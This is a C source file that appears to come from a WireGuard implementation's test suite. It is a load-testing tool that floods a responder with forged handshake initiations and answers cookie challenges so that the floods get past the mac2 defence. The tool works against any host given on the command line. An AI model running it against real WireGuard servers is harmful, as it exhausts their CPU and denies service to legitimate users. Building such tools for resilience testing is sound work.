/* hs_flood: the attack of issue 9 as a tool for the interop tests. Sends forged handshake
 * initiations (tests/wg/forge.h: valid mac1, junk identity, so the responder must spend one static-
 * key DH on each) to a WireGuard responder at a fixed rate, and answers its cookie replies the way
 * a real initiator does, so that under load its initiations carry a valid mac2 too: the attacker
 * has a real address. Prints what it sent and received.
 *
 * Usage: hs_flood HOST:PORT RESPONDER_PUBLIC_KEY_HEX RATE_PER_SEC SECONDS [BIND_ADDR] */
#include <arpa/inet.h>
#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "daemon/text.h"
#include "forge.h"

static uint64_t mono_ns(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000ull + (uint64_t)ts.tv_nsec;
}

int main(int argc, char **argv)
{
	struct wg_endpoint to;
	uint8_t pub[WG_KEY_LEN];
	if (argc < 5 || argc > 6 || text_parse_endpoint(argv[1], strlen(argv[1]), &to) != 0 ||
	    to.addr.sa.sa_family != AF_INET || text_parse_key(argv[2], strlen(argv[2]), pub) != 0) {
		fprintf(stderr, "usage: hs_flood HOST:PORT PUBKEY_HEX RATE SECONDS [BIND_ADDR]\n");
		return 2;
	}
	double rate = atof(argv[3]), seconds = atof(argv[4]);
	if (rate <= 0 || seconds <= 0) {
		fprintf(stderr, "hs_flood: RATE and SECONDS must be positive\n");
		return 2;
	}
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	struct sockaddr_in local = {.sin_family = AF_INET};
	if (argc == 6 && inet_pton(AF_INET, argv[5], &local.sin_addr) != 1) {
		fprintf(stderr, "hs_flood: bad bind address\n");
		return 2;
	}
	if (fd < 0 || bind(fd, (struct sockaddr *)&local, sizeof(local)) < 0) {
		perror("hs_flood: socket");
		return 1;
	}
	struct peer_cookie pc;
	peer_cookie_init(&pc, pub);
	unsigned sent = 0, cookies = 0, other = 0;
	uint64_t start = mono_ns(), end = start + (uint64_t)(seconds * 1e9);
	uint64_t interval = (uint64_t)(1e9 / rate), next = start;
	for (uint64_t now = start; now < end; now = mono_ns()) {
		if (now >= next) {
			struct msg_initiation msg;
			forge_initiation(&pc, &msg, now);
			if (sendto(fd, &msg, sizeof(msg), 0, &to.addr.sa, sizeof(to.addr.in4)) ==
			    (ssize_t)sizeof(msg))
				sent++;
			next += interval;
			continue;
		}
		struct pollfd p = {.fd = fd, .events = POLLIN};
		int wait_ms = (int)((next - now) / 1000000) + 1;
		if (poll(&p, 1, wait_ms) <= 0)
			continue;
		uint8_t buf[256];
		ssize_t n = recv(fd, buf, sizeof(buf), 0);
		if (n == MSG_COOKIE_REPLY_LEN && buf[0] == MSG_COOKIE_REPLY &&
		    cookie_consume_reply(&pc, (const struct msg_cookie_reply *)buf, mono_ns()))
			cookies++;
		else if (n > 0)
			other++;
	}
	printf("sent=%u cookies=%u other=%u\n", sent, cookies, other);
	return 0;
}
